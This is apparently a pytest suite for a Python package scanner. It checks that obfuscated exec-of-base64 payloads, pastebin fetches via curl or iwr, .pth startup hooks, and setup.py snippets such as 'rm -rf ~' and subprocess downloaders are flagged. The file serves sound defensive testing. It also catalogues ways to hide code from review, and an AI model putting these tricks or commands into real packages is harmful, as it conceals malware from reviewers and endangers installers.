"""What whoever wants to pass unseen would try; each passed once."""

from __future__ import annotations

import pytest

from moderation.scanning import of_archive, scan, shown
from tests.factories.dists import make_sdist, make_wheel

EVIL = "exec(base64.b64decode('cHJpbnQoMSk='))\n"
FAR_PE = b"MZ" + bytes(58) + (0x2000).to_bytes(4, "little") + bytes(0x1FC0) + b"PE\0\0" + bytes(90)
PYC = b"\xa7\r\r\n" + bytes(12) + b"\xe3"
ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
PASTE = "get('https://pastebin.com/raw/abcd1234')"

# In a wheel: rule, path, content.
TRICKS: dict[str, tuple[str, str, bytes | str]] = {
    "line breaks": (
        "runs_what_it_decodes",
        "demo/a.py",
        "exec(\n    __import__('base64')\n    .b64decode(x)\n)\n",
    ),
    "continued lines": ("runs_what_it_decodes", "demo/a.py", "exec \\\n(b64decode(x))\n"),
    "much space": ("runs_what_it_decodes", "demo/a.py", f"exec{' ' * 40}(b64decode(x))\n"),
    "a comment between": (
        "runs_what_it_decodes",
        "demo/a.py",
        f"exec(  # {'very harmless ' * 10})\n    b64decode(x))\n",
    ),
    "by its name": ("runs_what_it_decodes", "demo/a.py", "vars(b)['exec'](b64decode(x))\n"),
    "another decoder": ("runs_what_it_decodes", "demo/a.py", "exec(binascii.a2b_base64(x))\n"),
    "characters on lines": (
        "runs_characters_put_together",
        "demo/a.py",
        "exec(\n    ''\n    .join(\n        map(\n            chr, x)))\n",
    ),
    "backwards on lines": (
        "runs_characters_put_together",
        "demo/a.py",
        "exec(\n    ')1(tnirp'\n    [::-1]\n)\n",
    ),
    "a blob on lines": (
        "runs_a_long_blob",
        "demo/a.py",
        "x = ("
        + "".join(f"\n    '{'QUJD' * 18}'" for _ in range(12))
        + ")\ny = b64decode(x)\nexec(y)",
    ),
    "documentation on lines": (
        "runs_its_own_documentation",
        "demo/a.py",
        "exec(\n    demo\n    .__doc__\n)\n",
    ),
    "a module on lines": (
        "imports_by_a_coded_name",
        "demo/a.py",
        "__import__(\n    b64decode('b3M=').decode()\n)\n",
    ),
    "beyond two thousand spaces": (
        "code_far_to_the_right",
        "demo/a.py",
        "import os" + " " * 3000 + ";exec(x)",
    ),
    "a text that looks like a comment": ("paste_site", "demo/a.py", f"x = '# '; {PASTE}\n"),
    "a variable called rem": ("paste_site", "demo/a.py", f"rem = {PASTE}\n"),
    "a division": ("paste_site", "demo/a.py", f"x = 1 \\\n// {PASTE}\n"),
    "an f-string as docstring": ("paste_site", "demo/a.py", f'f"{{{PASTE}}}"\n'),
    "an f-string beside a docstring": ("paste_site", "demo/a.py", f'"x" f"{{{PASTE}}}"\n'),
    "quotes of a newer Python": (
        "paste_site",
        "demo/a.py",
        f"x = f'{{y['# ']}}'; {PASTE}\n",
    ),
    "braces of a newer Python": (
        "paste_site",
        "demo/a.py",
        f"x = f'}}}}{{ {{y['# ']}} }}'; {PASTE}\n",
    ),
    "templates of a newer Python": ("paste_site", "demo/a.py", f"t'{{y['# ']}}'; {PASTE}\n"),
    "documentation that is read": (
        "paste_site",
        "demo/a.py",
        '"""https://pastebin.com/raw/abcd1234"""\nget(__doc__)\n',
    ),
    "old line breaks": ("paste_site", "demo/a.py", f"# harmless\r{PASTE}\n"),
    "a comment for shells": ("paste_site", "demo/a.sh", "x='# '; curl https://pastebin.com/raw/x"),
    "a remark that goes on": (
        "paste_site",
        "demo/a.bat",
        "rem & curl https://pastebin.com/raw/abcd",
    ),
    "a hook that begins like a program": ("startup_hook", "evil.pth", "MZ\nimport evil\n"),
    "code that begins like a program": ("runs_what_it_decodes", "evil.pth", "MZ\nimport x;" + EVIL),
    "a program called Python": ("elf_program", "demo/data.py", ELF),
    "compiled code alone": ("unread_bytecode", "demo/a.pyc", PYC),
    "an encoding with escapes": (
        "coded_source",
        "demo/a.py",
        "# coding: unicode_escape\nx = 1\\x0a\\x65xec(y)\n",
    ),
    "an encoding with shifts": ("coded_source", "demo/a.py", "#!x\n# -*- coding: utf-7 -*-\n+AGU-"),
    "an encoding of its own": ("coded_source", "demo/a.py", "# coding: evil\nx = 1\n"),
    "letters of mathematics": (
        "disguised_name",
        "demo/a.py",
        "é = 1\n\U0001d41e\U0001d431\U0001d41e\U0001d41c(x)\n",
    ),
    "wide letters": ("disguised_name", "demo/a.py", "\uff45xec(\uff4264decode(x))\n"),
    "beside the prefix": ("startup_hook", "demo-1.0.data/data/evil.pth", "import evil\n"),
    "where Debian has packages": (
        "startup_hook",
        "demo-1.0.data/data/lib/python3/dist-packages/evil.pth",
        "import evil\n",
    ),
    "where Windows has packages": (
        "startup_hook",
        "demo-1.0.data/data/Lib/Site-Packages/evil.pth",
        "import evil\n",
    ),
    "a shell of Windows": (
        "paste_site",
        "demo/a.ps1",
        "\n\u00fc\niwr https://pastebin.com/raw/abcd\n".encode("utf-16"),
    ),
    "another shell": ("paste_site", "demo/a.zsh", "curl https://pastebin.com/raw/abcd\n"),
    "a far header": ("windows_program", "demo/a.txt", FAR_PE),
    "a native hook": ("startup_hook", "sitecustomize.so", ELF),
}
# In an sdist: rule, content of setup.py.
AT_BUILD = {
    "process by import": ("build_starts_processes", "__import__('os').system('rm -rf ~')\n"),
    "process from os": ("build_starts_processes", "from os import system\nsystem('id')\n"),
    "process from os on lines": (
        "build_starts_processes",
        "from os import (\n    path,\n    system as s,\n)\ns('id')\n",
    ),
    "process under another name": ("build_starts_processes", "import os as o\no.system('id')\n"),
    "process from a module": (
        "build_starts_processes",
        "from subprocess import run\nrun(['id'])\n",
    ),
    "process picked": ("build_starts_processes", "getattr(os, 'sys' + 'tem')('id')\n"),
    "process on lines": ("build_starts_processes", "os \\\n.system('id')\n"),
    "process spawned": ("build_starts_processes", "os.posix_spawn('/bin/id', ['id'], {})\n"),
    "downloader on lines": (
        "build_runs_a_downloader",
        "subprocess.run(\n    [\n        'curl',\n        url,\n    ]\n)\n",
    ),
    "shell in a list": ("build_runs_a_downloader", "subprocess.run(['sh', '-c', x])\n"),
    "network under another name": (
        "build_uses_the_network",
        "from urllib.request import urlopen as u\nu(x)\n",
    ),
    "network by a part": ("build_uses_the_network", "from urllib import request as r\nr.urlopen"),
    "network by import": ("build_uses_the_network", "__import__('requests').get(x)\n"),
    "code of a test": ("build_runs_what_lies_aside", "exec(open('tests/x.py').read())\n"),
    "module of a test": ("build_runs_what_lies_aside", "from tests.x import y\n"),
    "import of an example": ("build_runs_what_lies_aside", "import examples\n"),
    "install by class": ("takes_over_the_installation", "class E(install): ...\n"),
    "another install": ("takes_over_the_installation", "class E(orig_install): ...\n"),
    "two bases": ("takes_over_the_installation", "class E(object, install_lib): ...\n"),
    "build_py": ("takes_over_the_installation", "class E(build_py): ...\n"),
    "build": ("takes_over_the_installation", "class E(_build.build): ...\n"),
    "build_ext": ("takes_over_the_installation", "class E(build_ext): ...\n"),
    "bdist_wheel": ("takes_over_the_installation", "class E(bdist_wheel): ...\n"),
    "command under another name": (
        "takes_over_the_installation",
        "from setuptools.command.install import install as i\nclass E(i): ...\n",
    ),
    "one command": ("takes_over_the_installation", "cmdclass['build_py'] = E\n"),
    "many commands": (
        "names_its_own_commands",
        "setup(cmdclass={\n    'sdist': x(),\n    'build_py': E,\n})\n",
    ),
}
# In an sdist: rule, path, content.
DECLARED = {
    "setuptools": (
        "build_by_own_code",
        "*/pyproject.toml",
        "[tool.setuptools.cmdclass]\nbuild_py = 'demo.Evil'\n",
    ),
    "hatch": ("build_by_own_code", "*/pyproject.toml", "[tool.hatch.build.hooks.custom]\npath='x'"),
    "poetry": ("build_by_own_code", "*/pyproject.toml", "[tool.poetry.build]\nscript = 'x.py'\n"),
    "pdm": ("build_by_own_code", "*/pyproject.toml", "[tool.pdm.build]\ncustom-hook = 'x.py'\n"),
    "setup.cfg": ("build_by_own_code", "setup.cfg", "[options]\ncmdclass =\n    install = x.E\n"),
    "commands elsewhere": ("build_by_own_code", "setup.cfg", "[global]\ncommand_packages = evil\n"),
}
ORDINARY_BUILDS = {
    "platform": "import os, platform\nif platform.system() == 'Windows': ...\n",
    "super": "class T(Command):\n    def run(self):\n        super().run()\n",
    "other words": "import socket\nfrom urllib.parse import quote\nfrom os import path\n",
    "test command": "from setuptools.command.test import test as T\nimport doctest\n",
    "version": "exec(open('demo/version.py').read())\n",
    "sdist": "setup(cmdclass=dict(test=T, sdist=S))\nx = dict(build=1, install=2)\n",
}
COMMENTS = {
    "Python": ("demo/a.py", f"x = 1  # {PASTE}\n"),
    "several lines": ("demo/a.py", f'"""Docs.\n\n{PASTE}\n"""\n'),
    "after an f-string": ("demo/a.py", f"x = f'{{{{{{y}}}}}}'  # {PASTE}\n"),
    "a script": ("demo-1.0.data/scripts/a", f"#!python\nx = 1  # {PASTE}\n"),
    "shell": ("demo/a.sh", "#!/bin/sh\n  # curl https://pastebin.com/raw/x\n"),
    "batch": ("demo/a.cmd", "REM see https://pastebin.com/raw/x\n:: https://pastebin.com/raw/x\n"),
    "a hook": ("demo/x.pth", "# https://pastebin.com/raw/x\n"),
}
INNOCENT = {
    "letters of its language": "# coding: latin-1\nüber = '\ufb01ne'  # \uff45\uff58\uff45\uff43\n",
    "an encoding of the East": "# coding: shift_jis\nx = 1\n",
    "greek": "\U0001d70e = \u03c3 = 1\n",
    "another statement": "exec(code)\n\n\ndata = decompress(x)\n",
    "another call": "exec(code,\n     spaces)\ny = b64decode(x)[::-1]\n",
}


def rules_of(path):
    return {each.rule for each in of_archive(path, path.name).found}


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_does_not_hide_it(tmp_path, trick):
    rule, member, content = TRICKS[trick]
    assert rule in rules_of(make_wheel(tmp_path, files={member: content}))


@pytest.mark.parametrize("language", COMMENTS)
def test_comments_are_comments_in_their_languages(tmp_path, language):
    member, content = COMMENTS[language]
    assert not rules_of(make_wheel(tmp_path, files={member: content}))


@pytest.mark.parametrize("kind", INNOCENT)
def test_what_stands_after_a_call_is_not_in_it(tmp_path, kind):
    assert not rules_of(make_wheel(tmp_path, files={"demo/a.py": INNOCENT[kind]}))


def test_tests_do_not_use_up_a_rule(tmp_path):
    padding = "".join(f"exec(b64decode(x{n}))\n" for n in range(30))
    path = make_sdist(tmp_path, files={"tests/a.py": padding, "demo/a.py": EVIL})
    found = of_archive(path, path.name).found
    assert [each.key for each in found if each.severity == "high"] == ["demo/a.py"]
    assert shown(found)[0].key == "demo/a.py"


def test_many_signals_do_not_use_up_the_scan(tmp_path):
    padding = {f"tests/a{n}.py": f"exec(b64decode(x{n}))\n{PASTE}\n" for n in range(150)}
    path = make_sdist(tmp_path, files={**padding, "demo/a.py": EVIL})
    assert "demo/a.py" in {each.key for each in of_archive(path, path.name).found}


def test_comments_do_not_use_up_a_pattern(tmp_path):
    text = "# https://pastebin.com/raw/abcd\n" * 500 + PASTE
    path = make_wheel(tmp_path, files={"demo/a.py": text})
    assert [each.line for each in of_archive(path, path.name).found] == [501]


def test_more_matches_than_are_looked_at_are_unseen(tmp_path):
    text = "# https://pastebin.com/raw/abcd\n" * 1500 + PASTE
    path = make_wheel(tmp_path, files={"demo/a.py": text})
    assert of_archive(path, path.name).unseen == ["demo/a.py"]


def test_more_places_than_are_kept_are_unseen(tmp_path, monkeypatch):
    monkeypatch.setattr(scan, "MOST_PLACES", 20)
    text = "".join(f"exec(b64decode(x{n}))\n" for n in range(21))
    path = make_wheel(tmp_path, files={"demo/a.py": text, "demo/b.py": EVIL})
    seen = of_archive(path, path.name)
    assert seen.unseen == ["demo/a.py", "demo/b.py"]
    assert len(seen.found) == 20


def test_the_end_of_a_long_line_counts(tmp_path):
    def identity(folder, end):
        line = f"exec(b64decode('{'A' * 9000}{end}'))\n"
        path = make_wheel(tmp_path / folder, files={"demo/a.py": line})
        return [each.identity for each in of_archive(path, path.name).found]

    assert identity("a", "x") != identity("b", "y")


def test_documentation_of_a_large_member_ends_with_the_time(tmp_path):
    text = "x = [1, 2, 3]\n" * 200_000 + PASTE
    path = make_wheel(tmp_path, files={"demo/a.py": text})
    assert of_archive(path, path.name, budget=0.2).unseen[0] == "demo/a.py"


def test_lines_are_counted_as_pages_count_them(tmp_path):
    path = make_wheel(tmp_path, files={"demo/a.py": f"x\r\ny\rz\n{PASTE}\n"})
    (found,) = of_archive(path, path.name).found
    assert (found.line, found.excerpt) == (3, PASTE)


@pytest.mark.parametrize("trick", AT_BUILD)
def test_what_a_build_does_is_not_hidden(tmp_path, trick):
    rule, content = AT_BUILD[trick]
    path = make_sdist(tmp_path, files={"setup.py": content})
    (severity,) = {each.severity for each in of_archive(path, path.name).found if each.rule == rule}
    assert severity in {"medium", "high"}


@pytest.mark.parametrize("tool", DECLARED)
def test_what_configuration_lets_run_at_build_is_found(tmp_path, tool):
    rule, member, content = DECLARED[tool]
    how = {"replace": {member: content}} if "*" in member else {"files": {member: content}}
    found = of_archive(make_sdist(tmp_path, **how), "demo-1.0.tar.gz").found
    assert [(each.rule, each.severity) for each in found] == [(rule, "medium")]
    assert found[0].line


@pytest.mark.parametrize("kind", ORDINARY_BUILDS)
def test_an_ordinary_setup_is_no_news(tmp_path, kind):
    assert not rules_of(make_sdist(tmp_path, files={"setup.py": ORDINARY_BUILDS[kind]}))


@pytest.mark.parametrize("text", ["[options", "cmdclass = x", "[options]\nx"])
def test_a_broken_configuration_says_nothing(tmp_path, text):
    assert not rules_of(make_sdist(tmp_path, files={"setup.cfg": text}))


def test_compiled_code_beside_its_source_is_left_to_python(tmp_path):
    files = {"demo/a.pyc": PYC, "demo/__pycache__/a.cpython-311.pyc": PYC, "demo/a.py": "x = 1\n"}
    assert not rules_of(make_wheel(tmp_path, files=files))


def test_compiled_code_that_takes_the_place_of_its_source_is_grave(tmp_path):
    by_hash = PYC[:4] + b"\x01\0\0\0" + PYC[8:]
    files = {"demo/__pycache__/a.cpython-311.pyc": by_hash, "demo/a.py": "x = 1\n"}
    path = make_wheel(tmp_path, files=files)
    assert [each.severity for each in of_archive(path, path.name).found] == ["high"]


def test_left_over_compiled_code_is_no_more_than_a_remark(tmp_path):
    path = make_wheel(tmp_path, files={"demo/__pycache__/b.cpython-311.pyc": PYC})
    assert [each.severity for each in of_archive(path, path.name).found] == ["low"]


def test_a_data_file_of_another_folder_is_no_startup_hook(tmp_path):
    files = {"demo-1.0.data/data/share/model.pth": "import x\n"}
    assert not rules_of(make_wheel(tmp_path, files=files))


def test_a_program_without_a_suffix_is_native_code(tmp_path):
    files = {"demo/tool": ELF, "demo/a.so": ELF}
    path = make_wheel(tmp_path, tag="cp312-cp312-linux_x86_64", files=files)
    assert of_archive(path, path.name).native == ["demo/tool", "demo/a.so"]


@pytest.mark.parametrize(
    "run", [b"b" * 399 + b"!", b"b+" * 30 + b"\n!", b"\\x41" * 119 + b"!"], ids=["b", "plus", "esc"]
)
def test_no_text_keeps_the_rules_busy(tmp_path, run):
    """Such texts, which are almost a blob, once took longer than anybody waits."""
    path = make_wheel(tmp_path, files={"demo/a.py": b"exec(x)\nb64decode(y)\n" + run * 2000})
    scan = of_archive(path, path.name, budget=120)
    assert scan.complete
    assert not scan.found


def test_configuration_that_takes_too_long_is_unseen(tmp_path):
    path = make_sdist(tmp_path, replace={"*/pyproject.toml": "[a]\nb = 1\n" + "#" * 300_000})
    assert of_archive(path, path.name).unseen == ["demo-1.0/pyproject.toml"]
